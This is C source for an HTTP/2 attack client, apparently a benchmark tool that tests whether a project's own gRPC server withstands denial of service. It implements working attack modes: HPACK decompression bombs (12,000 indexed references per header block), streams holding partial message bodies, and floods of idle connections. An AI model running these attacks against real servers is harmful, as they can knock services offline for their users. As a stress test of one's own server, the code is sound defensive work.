/*
 * h2attack: hostile clients of the gRPC door, for bench/bench_attack.sh (issue 34). Each mode is
 * one of the attacks the door must survive; the frames come from the tests' raw HTTP/2 client
 * (tests/support/h2raw.c), so the bench attacks exactly as the tests do.
 *
 *   hpack   CONNS connections, each sending header blocks of 12,000 one-byte references to a
 *           4 KB field (48 MB decoded from 12 KB), a new stream each, as fast as the daemon
 *           takes them; a connection the daemon ends is opened again
 *   lawful  the same with lists just under the bound: three references (12 KB decoded from a
 *           few bytes) and the call's body, each call complete and answered
 *   bodies  CONNS connections, each opening every stream the server allows with a message that
 *           announces 64 KiB, sending as much of it as the windows allow, and holding it
 *   idle    CONNS connections, half silent, half after the preface; a closed one is opened again
 *
 * usage: h2attack MODE ADDR CONNS SECONDS [TOKEN]   (ADDR: tcp:PORT or a unix socket path; TOKEN:
 * every call's `authorization: Bearer TOKEN`, the attacker a client the door lets decide)
 * Runs for SECONDS (or until SIGTERM) and prints one JSON line: the bytes sent and the
 * connections opened.
 */
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "h2raw.h"

static const char *addr;
static atomic_bool running = true;
static atomic_size_t sent_bytes, opened;
static double stop_at;

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool go(void)
{
    return atomic_load(&running) && now_s() < stop_at;
}

static void on_term(int sig)
{
    (void)sig;
    atomic_store(&running, false);
}

static int open_conn(h2raw_conn_t *c, bool preface)
{
    int rc = h2raw_open(c, addr);
    if (rc != 0)
        return -1;
    atomic_fetch_add(&opened, 1);
    struct timeval tv = {.tv_sec = 0, .tv_usec = 200000}; /* a stop is seen within 0.2 s */
    setsockopt(c->fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
    if (preface) { /* and a connection window its answers never fill */
        static const uint8_t more[4] = {0x7f, 0xff, 0, 0};
        h2raw_buf_t b = {0};
        h2raw_preface(&b);
        h2raw_frame(&b, H2_WINDOW_UPDATE, 0, 0, more, sizeof(more));
        rc = h2raw_send(c, b.p, b.len);
        h2raw_buf_free(&b);
    }
    return rc;
}

/* Writes all of b unless told to stop; -1 when the connection is gone. */
static int push(h2raw_conn_t *c, const h2raw_buf_t *b)
{
    for (size_t at = 0; at < b->len && go();) {
        ssize_t n = send(c->fd, b->p + at, b->len - at, MSG_NOSIGNAL);
        if (n > 0) {
            at += (size_t)n;
            atomic_fetch_add(&sent_bytes, (size_t)n);
        } else if (n == 0 || (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)) {
            return -1;
        }
    }
    return 0;
}

/* Drops whatever the server sent, without waiting. */
static void discard(h2raw_conn_t *c)
{
    char buf[65536];
    while (recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT) > 0)
        ;
}

/* The header block of stream `first` (adds the 4 KB field to the table) or of the others. */
static void header_block(h2raw_buf_t *block, bool lawful, bool first)
{
    static char pad[4000];
    memset(pad, 'a', sizeof(pad));
    h2raw_grpc_fields(block, H2RAW_RLS);
    if (!lawful || first)
        h2raw_hpack_literal(block, "x-pad", pad, sizeof(pad), true);
    for (int i = lawful && first; i < (lawful ? 3 : 12000); i++)
        h2raw_hpack_indexed(block, 62);
}

static void *headers(void *arg)
{
    bool lawful = arg != NULL;
    size_t mlen;
    uint8_t *msg = h2raw_rls_request("bench", "key", "attack", &mlen);
    h2raw_buf_t first = {0}, next = {0}, out = {0};
    header_block(&first, lawful, true);
    header_block(&next, lawful, false);
    while (go()) {
        h2raw_conn_t c;
        if (open_conn(&c, true) != 0) {
            usleep(10000);
            continue;
        }
        for (uint32_t id = 1; go() && id < (1u << 30); id += 2) {
            out.len = 0;
            h2raw_headers(&out, id, id == 1 ? &first : &next, !lawful);
            if (lawful)
                h2raw_grpc_data(&out, id, msg, mlen, true);
            if (push(&c, &out) != 0)
                break;
            discard(&c); /* a lawful client reads its answers */
        }
        h2raw_close(&c);
    }
    h2raw_buf_free(&first);
    h2raw_buf_free(&next);
    h2raw_buf_free(&out);
    free(msg);
    return NULL;
}

static void bodies(int conns)
{
    h2raw_conn_t *c = calloc((size_t)conns, sizeof(*c));
    size_t(*sent)[H2RAW_STREAMS] = calloc((size_t)conns, sizeof(*sent));
    static uint8_t piece[H2RAW_FRAME_MAX];
    piece[1] = 1;                  /* the prefix announces 65536 bytes: never all sent */
    const size_t most = 5 + 65536; /* what one stream sends at most */
    h2raw_buf_t block = {0}, out = {0};
    h2raw_grpc_fields(&block, H2RAW_RLS);
    for (int i = 0; i < conns && go(); i++) {
        if (open_conn(&c[i], true) != 0 || h2raw_ping(&c[i], 1, 5000) != 0) {
            fprintf(stderr, "h2attack: connection %d refused\n", i);
            h2raw_close(&c[i]);
            continue;
        }
        uint32_t streams =
            c[i].max_streams && c[i].max_streams < H2RAW_STREAMS ? c[i].max_streams : 100;
        out.len = 0;
        for (uint32_t s = 0; s < streams; s++)
            h2raw_headers(&out, 1 + 2 * s, &block, false);
        push(&c[i], &out);
    }
    /* rounds: as much as every stream's window allows, then two PINGs bring the updates */
    for (bool progress = true; progress && go();) {
        progress = false;
        for (int i = 0; i < conns && go(); i++) {
            if (c[i].fd < 0)
                continue;
            uint32_t streams =
                c[i].max_streams && c[i].max_streams < H2RAW_STREAMS ? c[i].max_streams : 100;
            for (uint32_t s = 0; s < streams; s++) {
                int64_t can = h2raw_can_send(&c[i], 1 + 2 * s);
                size_t n = most - sent[i][s];
                n = can < (int64_t)n ? (size_t)(can > 0 ? can : 0) : n;
                n = n < sizeof(piece) ? n : sizeof(piece);
                if (!n)
                    continue;
                out.len = 0;
                h2raw_frame(&out, H2_DATA, 0, 1 + 2 * s, piece, n);
                h2raw_sent(&c[i], 1 + 2 * s, n);
                sent[i][s] += n;
                progress = true;
                if (push(&c[i], &out) != 0)
                    break;
            }
            if (h2raw_ping(&c[i], 2, 5000) != 0 || h2raw_ping(&c[i], 3, 5000) != 0)
                h2raw_close(&c[i]);
        }
    }
    while (go()) /* held */
        usleep(50000);
    for (int i = 0; i < conns; i++)
        h2raw_close(&c[i]);
    h2raw_buf_free(&block);
    h2raw_buf_free(&out);
    free(sent);
    free(c);
}

static void idle(int conns)
{
    h2raw_conn_t *c = calloc((size_t)conns, sizeof(*c));
    for (int i = 0; i < conns; i++)
        c[i].fd = -1;
    while (go()) {
        for (int i = 0; i < conns && go(); i++) {
            if (c[i].fd >= 0) {
                char b;
                ssize_t n = recv(c[i].fd, &b, 1, MSG_DONTWAIT | MSG_PEEK);
                if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK))
                    h2raw_close(&c[i]); /* closed by the daemon: opened again */
                else
                    discard(&c[i]);
            }
            if (c[i].fd < 0)
                open_conn(&c[i], i % 2);
        }
        usleep(20000);
    }
    for (int i = 0; i < conns; i++)
        h2raw_close(&c[i]);
    free(c);
}

int main(int argc, char **argv)
{
    static char bearer[160];
    if (argc != 5 && !(argc == 6 && strlen(argv[5]) < sizeof(bearer) - 8)) {
        fprintf(stderr, "usage: h2attack hpack|lawful|bodies|idle ADDR CONNS SECONDS [TOKEN]\n");
        return 64;
    }
    if (argc == 6) {
        snprintf(bearer, sizeof(bearer), "Bearer %s", argv[5]);
        h2raw_authorization = bearer;
    }
    const char *mode = argv[1];
    addr = argv[2];
    int conns = atoi(argv[3]);
    stop_at = now_s() + atof(argv[4]);
    signal(SIGTERM, on_term);
    signal(SIGINT, on_term);
    signal(SIGPIPE, SIG_IGN);
    if (!strcmp(mode, "hpack") || !strcmp(mode, "lawful")) {
        pthread_t *th = calloc((size_t)conns, sizeof(*th));
        for (int i = 0; i < conns; i++)
            pthread_create(&th[i], NULL, headers, mode[0] == 'l' ? (void *)1 : NULL);
        for (int i = 0; i < conns; i++)
            pthread_join(th[i], NULL);
        free(th);
    } else if (!strcmp(mode, "bodies")) {
        bodies(conns);
    } else if (!strcmp(mode, "idle")) {
        idle(conns);
    } else {
        fprintf(stderr, "h2attack: unknown mode %s\n", mode);
        return 64;
    }
    printf("{\"mode\":\"%s\",\"connections\":%d,\"bytes\":%zu,\"opened\":%zu}\n", mode, conns,
           atomic_load(&sent_bytes), atomic_load(&opened));
    return 0;
}
